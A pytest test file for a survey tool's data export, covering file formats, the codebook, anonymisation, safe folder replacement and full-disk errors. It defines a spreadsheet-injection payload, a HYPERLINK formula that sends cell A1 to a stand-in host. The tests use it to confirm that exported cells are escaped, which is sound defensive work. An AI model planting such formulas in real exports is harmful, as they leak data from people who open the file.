"""Exports: what is in each file, what is not, and what becomes of an export to a disk that is full."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import resource
import signal
import subprocess
from collections import Counter
from contextlib import suppress

import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from answering import finish, first_option, forward, small
from small_study import begin
from verax.errors import VeraxError
from verax.studies.answers.export import FORMATS, export_study, to_markdown
from verax.studies.answers.export_files import NUMBER, CsvWriter, guarded, to_cells, unguarded
from verax.studies.answers.flat_records import READERS, view
from verax.studies.answers.schema import TABLES, RecordColumn, shown
from verax.studies.store import open_store

FORMULA = '=HYPERLINK("http://example.org?x="&A1,"free")'
FILES = [f"{table}.{format}" for table in TABLES for format in FORMATS]


def with_formula(question):
    return FORMULA if question.kind == "text" else first_option(question)


@pytest.fixture
def store(opened, clock):
    """One who wrote a formula, one who left, a bot that was too fast."""
    store = opened(small({"rule": "too-fast"}, {"rule": "left"}))
    finish(
        store,
        begin(store),
        clock,
        choose=lambda question: FORMULA if question.kind == "text" else first_option(question),
    )
    begin(store)
    clock.advance(3600)
    token = store.enter(is_bot=True)
    store.consent(token, True)
    finish(store, token, clock, seconds=1)
    store.event(token, "seen", {"words": "private"})
    return store


def read_csv(path):
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def everything(folder):
    """All that an export says, in any file."""
    return "".join(path.read_bytes().decode("utf-8", "replace") for path in sorted(folder.iterdir()))


class TestFiles:
    def test_all_formats_hold_the_records(self, store, tmp_path):
        exported = export_study(store, tmp_path / "out", FORMATS, identifying=True, free_text=True)
        assert {path.name for path in (tmp_path / "out").iterdir()} == {
            *FILES,
            "analysis.R",
            "codebook.json",
            "codebook.md",
        }
        with view(store, identifying=True, free_text=True) as seen:
            for name, read in READERS.items():
                records = list(read(seen))
                lines = (tmp_path / "out" / f"{name}.jsonl").read_text(encoding="utf-8").splitlines()
                assert [json.loads(line) for line in lines] == records
                as_json = {column.name for column in TABLES[name] if column.type == "json"}
                table = pq.read_table(tmp_path / "out" / f"{name}.parquet").to_pylist()
                for row in table:
                    row |= {key: json.loads(row[key]) for key in as_json if row[key] is not None}
                assert table == records
                assert len(read_csv(tmp_path / "out" / f"{name}.csv")) == len(records) == exported.rows[name]

    def test_csv_is_that_of_rfc_4180(self, store, tmp_path):
        export_study(store, tmp_path / "out", ("csv",), free_text=True)
        content = (tmp_path / "out" / "responses.csv").read_bytes()
        assert content.count(b"\r\n") == content.count(b"\n") == 1 + 7 + 7
        assert b"\"'" + FORMULA.replace('"', '""').encode() + b'"' in content
        assert b",true," in content
        assert b",false," in content

    def test_what_is_said_of_the_files_is_true(self, store, tmp_path):
        exported = export_study(store, tmp_path / "out", ("csv", "parquet"))
        codebook = json.loads((tmp_path / "out" / "codebook.json").read_text(encoding="utf-8"))
        assert codebook["files"] == list(exported.files)
        assert len(codebook["files"]) == 10
        for file in codebook["files"]:
            content = (tmp_path / "out" / file["name"]).read_bytes()
            assert (file["bytes"], file["sha256"]) == (len(content), hashlib.sha256(content).hexdigest())
        rows = {file["table"]: file["rows"] for file in codebook["files"]}
        assert rows == {"participants": 3, "responses": 14, "pages": 18, "events": 1, "exclusions": 2}

    def test_large_tables_are_written_in_row_groups(self, opened, clock, tmp_path, monkeypatch):
        monkeypatch.setattr("verax.studies.answers.export.AT_ONCE", 5)
        store = opened(forward())
        finish(store, begin(store), clock)
        export_study(store, tmp_path / "out", ("parquet",))
        file = pq.ParquetFile(tmp_path / "out" / "responses.parquet")
        rows = file.metadata.num_rows
        assert rows in (16, 18)  # predictions; whoever sees explanations also rates two
        assert [file.metadata.row_group(group).num_rows for group in range(3)] == [5, 5, 5]

    @pytest.mark.parametrize(
        ("formats", "said"), [((), "none is asked for"), (("csv", "xlsx"), "'xlsx' is none of them")]
    )
    def test_other_formats_are_refused(self, store, tmp_path, formats, said):
        with pytest.raises(VeraxError, match=f"csv, jsonl, parquet; {said}"):
            export_study(store, tmp_path / "out", formats)


class TestAnonymous:
    def test_nothing_that_is_identifying_or_was_written_is_in_any_file(self, store, tmp_path):
        export_study(store, tmp_path / "out", FORMATS)
        with view(store, identifying=True, free_text=True) as seen:
            people = list(READERS["participants"](seen))
        said = everything(tmp_path / "out")
        codes = [person["completion_code"] for person in people if person["completion_code"]]
        assert len(codes) == 2
        for secret in (*codes, "HYPERLINK", "private", "2030-01-01T12:01", "completion_code", "person_hash"):
            assert secret not in said, secret

    def test_texts_and_identifying_columns_are_asked_for_apart(self, store, tmp_path):
        export_study(store, tmp_path / "out", ("csv",), free_text=True)
        said = everything(tmp_path / "out")
        assert "HYPERLINK" in said
        assert "private" in said
        assert "completion_code" not in said
        export_study(store, tmp_path / "out", ("csv",), identifying=True)
        said = everything(tmp_path / "out")
        assert "HYPERLINK" not in said
        assert "private" not in said
        assert "completion_code" in said


class TestFormulas:
    @pytest.mark.parametrize("text", ["=1+1", "+cmd", "-2+3", "@SUM(A1)", "＝1", "'=1", "''@x"])
    def test_what_a_spreadsheet_would_run_gets_an_apostrophe(self, text):
        assert guarded(text) == "'" + text

    @pytest.mark.parametrize(
        ("text", "cell"),
        [
            ("\t=1", "'\t'=1"),
            ("\n=1", "'\n'=1"),
            ("hello;=1+1", "hello;'=1+1"),
            (";=1", ";'=1"),
            ("a; -2;b", "a; '-2;b"),
            ("a;'@x", "a;''@x"),
            ("first line\n=1+1", "first line\n'=1+1"),
            ("=1;+2", "'=1;'+2"),
            ("a; b = c", "a; b = c"),
        ],
    )
    def test_nor_is_anything_run_where_a_cell_begins_after_a_semicolon(self, text, cell):
        assert (guarded(text), unguarded(cell)) == (cell, text)

    @given(st.text(alphabet=st.sampled_from("'=+-@;\n a1,\"")))
    def test_a_spreadsheet_of_a_country_with_decimal_commas_runs_nothing(self, text):
        """It takes the semicolon for the separator, and so the quotes in the middle of a cell for letters."""
        columns = [
            RecordColumn("before", "text", ""),
            RecordColumn("said", "text", ""),
            RecordColumn("all", "json", ""),
        ]
        row = [
            to_cells(column, [value])[0]
            for column, value in zip(columns, ["x", text, {"q": text}], strict=True)
        ]
        file = io.StringIO(newline="")
        csv.writer(file).writerow(row)
        for line in file.getvalue().splitlines():
            assert not any(cell.lstrip()[:1] in tuple("=+@") for cell in line.split(";"))
        assert json.loads(row[2]) == {"q": text}

    @pytest.mark.parametrize("text", ["-1", "-0.5", "+3", "1 = 1", "'quoted'", "a@b", "", "0:certain"])
    def test_numbers_and_other_texts_stay(self, text):
        assert guarded(text) == text

    @given(st.text(alphabet=st.sampled_from("'=+-@\t\r\na1. ＝;")) | st.text())
    def test_no_text_is_lost_and_none_is_run(self, text):
        cell = guarded(text)
        assert unguarded(cell) == text
        assert NUMBER.fullmatch(cell) or cell[:1] not in tuple("=+-@\t\r\n＝＋－＠")

    @given(
        st.lists(
            st.text(
                alphabet=st.characters(blacklist_categories=["Cs"], blacklist_characters="\0"), min_size=1
            )
        )
    )
    def test_a_csv_reader_gets_every_text_back(self, texts):
        column = RecordColumn("text", "text", "Any.")
        file = io.StringIO(newline="")
        csv.writer(file).writerows([cell] for cell in to_cells(column, texts))
        rows = list(csv.reader(io.StringIO(file.getvalue(), newline="")))
        assert [unguarded(row[0]) for row in rows] == texts


class TestCodebook:
    def test_every_column_is_explained_and_counted(self, store, tmp_path):
        export_study(store, tmp_path / "out", ("csv",))
        codebook = json.loads((tmp_path / "out" / "codebook.json").read_text(encoding="utf-8"))
        for name, columns in TABLES.items():
            listed = codebook["tables"][name]["columns"]
            assert [one["name"] for one in listed] == [
                column.name for column in shown(columns, identifying=False)
            ]
            cells = read_csv(tmp_path / "out" / f"{name}.csv")
            for one in listed:
                values = [row[one["name"]] for row in cells]
                assert one["meaning"].endswith(".")
                assert one["missing"] == values.count("")
                counted = {level: count for level, count in one.get("levels", {}).items() if count}
                if "levels" in one:
                    assert counted == Counter(filter(None, values))
                if "lowest" in one:
                    numbers = [float(value) for value in values if value]
                    assert (one["lowest"], one["highest"]) == (min(numbers), max(numbers))

    def test_questions_have_their_answers_and_how_often_they_were_chosen(self, store, tmp_path):
        export_study(store, tmp_path / "out", ("csv",))
        codebook = json.loads((tmp_path / "out" / "codebook.json").read_text(encoding="utf-8"))
        questions = {one["name"]: one for one in codebook["questions"]}
        assert set(questions) == {"screening-1", "screening-2", "prediction", "rating", "reason", "strategy"}
        assert questions["prediction"] == {
            "name": "prediction",
            "kind": "choice",
            "prompts": ["What does the model say?"],
            "scored": True,
            "answers": 4,
            "options": [
                {"answer": "0", "labels": ["bad"], "count": 4},
                {"answer": "1", "labels": ["good"], "count": 0},
            ],
        }
        assert [option["count"] for option in questions["rating"]["options"]] == [2, 0, 0, 0, 0, 0, 0]
        assert (questions["reason"]["answers"], questions["reason"]["options"]) == (2, [])

    def test_it_says_what_was_exported(self, store, tmp_path):
        export_study(store, tmp_path / "out", ("csv",))
        codebook = json.loads((tmp_path / "out" / "codebook.json").read_text(encoding="utf-8"))
        assert (codebook["hash"], codebook["title"]) == (store.study.hash, store.study.spec.title)
        assert codebook["exported_at"] == store.clock().isoformat(timespec="seconds")
        assert codebook["exclusion_rules"] == [
            {"rule": "too-fast", "limit": 2.0},
            {"rule": "left", "limit": 1.0},
        ]

    def test_people_read_the_same(self, store, tmp_path):
        export_study(store, tmp_path / "out", ("csv",))
        codebook = json.loads((tmp_path / "out" / "codebook.json").read_text(encoding="utf-8"))
        text = (tmp_path / "out" / "codebook.md").read_text(encoding="utf-8")
        assert text == to_markdown(codebook)
        for table in codebook["tables"].values():
            for column in table["columns"]:
                assert f"| {column['name']} | {column['type']} |" in text
        assert "| state | text |" in text
        assert "closed (14), expired (0)" in text

    def test_a_title_breaks_no_table(self, opened, tmp_path):
        study = small()
        spec = study.spec.model_copy(update={"title": "A | <b>bold</b>\nstudy"})
        object.__setattr__(study, "spec", spec)
        export_study(opened(study), tmp_path / "out", ("csv",))
        first = (tmp_path / "out" / "codebook.md").read_text(encoding="utf-8").splitlines()[0]
        assert first == "# Codebook: A \\| &lt;b>bold&lt;/b> study"


class TestReplacing:
    def test_an_older_export_is_replaced_as_a_whole(self, store, tmp_path):
        export_study(store, tmp_path / "out", FORMATS)
        export_study(store, tmp_path / "out", ("csv",))
        assert [path.name for path in tmp_path.iterdir()] == ["out"]
        assert not list((tmp_path / "out").glob("*.parquet"))

    def test_a_folder_with_other_files_is_left_alone(self, store, tmp_path):
        (tmp_path / "thesis.txt").write_text("years of work")
        with pytest.raises(VeraxError, match=r"holds what no export wrote \(1: thesis.txt\)"):
            export_study(store, tmp_path, ("csv",))
        assert [path.name for path in tmp_path.iterdir()] == ["thesis.txt"]

    def test_the_root_of_all_folders_is_left_alone(self, store):
        with pytest.raises(VeraxError, match="'/' cannot be replaced"):
            export_study(store, "/")

    def test_a_file_is_no_folder(self, store, tmp_path):
        (tmp_path / "out").write_text("")
        with pytest.raises(VeraxError, match="is a file; name a folder"):
            export_study(store, tmp_path / "out", ("csv",))

    def test_an_export_that_was_killed_between_its_two_renames_is_put_back(self, store, tmp_path):
        export_study(store, tmp_path / "out", ("csv",))
        (tmp_path / "out").rename(tmp_path / ".out.old")
        with pytest.raises(VeraxError, match="none of them"):
            export_study(store, tmp_path / "out", ("xlsx",))
        export_study(store, tmp_path / "out", ("jsonl",))
        assert [path.name for path in tmp_path.iterdir()] == ["out"]

    def test_an_error_in_the_middle_leaves_nothing(self, store, tmp_path, monkeypatch):
        def stop(self, part):
            raise KeyboardInterrupt

        monkeypatch.setattr(CsvWriter, "write", stop)
        with pytest.raises(KeyboardInterrupt):
            export_study(store, tmp_path / "out", ("csv",))
        assert list(tmp_path.iterdir()) == []


@pytest.fixture
def tiny_disk(tmp_path):
    """A file system of 256 kB."""
    place = tmp_path / "disk"
    place.mkdir()
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(place)], capture_output=True, check=False
    )
    if mounted.returncode != 0:
        pytest.skip("Only root may mount a file system.")
    yield place
    subprocess.run(["umount", "-l", str(place)], check=True)


@pytest.fixture
def only_small_files():
    """This process may write no file of more than 2 kB."""
    before = resource.getrlimit(resource.RLIMIT_FSIZE)
    handler = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    yield lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (2048, before[1]))
    resource.setrlimit(resource.RLIMIT_FSIZE, before)
    signal.signal(signal.SIGXFSZ, handler)


def fill_up(path):
    """Writes until nothing more goes onto the disk."""
    with suppress(OSError), path.open("wb", buffering=0) as file:
        while True:
            file.write(bytes(4096))


class TestFullDisk:
    @pytest.mark.parametrize("format", FORMATS)
    def test_is_a_sentence_and_leaves_the_older_export(self, tmp_path, clock, tiny_disk, format):
        store = open_store(forward(), f"sqlite:///{tmp_path / 'answers.sqlite'}", clock=clock)
        finish(store, begin(store), clock)
        export_study(store, tiny_disk / "out", (format,))
        before = everything(tiny_disk / "out")
        fill_up(tiny_disk / "others")
        with pytest.raises(VeraxError, match=r"No space left on device.*what was there before is as it was"):
            export_study(store, tiny_disk / "out", (format,))
        assert everything(tiny_disk / "out") == before
        assert {path.name for path in tiny_disk.iterdir()} == {"out", "others"}
        store.close()

    @pytest.mark.parametrize("format", FORMATS)
    def test_so_is_a_file_that_may_not_grow(self, tmp_path, clock, only_small_files, format):
        store = open_store(forward(), f"sqlite:///{tmp_path / 'answers.sqlite'}", clock=clock)
        finish(store, begin(store), clock)
        export_study(store, tmp_path / "out", (format,))
        before = everything(tmp_path / "out")
        only_small_files()
        with pytest.raises(VeraxError, match=r"could not be written \(File too large\); make room"):
            export_study(store, tmp_path / "out", (format,))
        assert everything(tmp_path / "out") == before
        assert {path.name for path in tmp_path.iterdir() if not path.name.startswith("answers")} == {"out"}
        store.close()
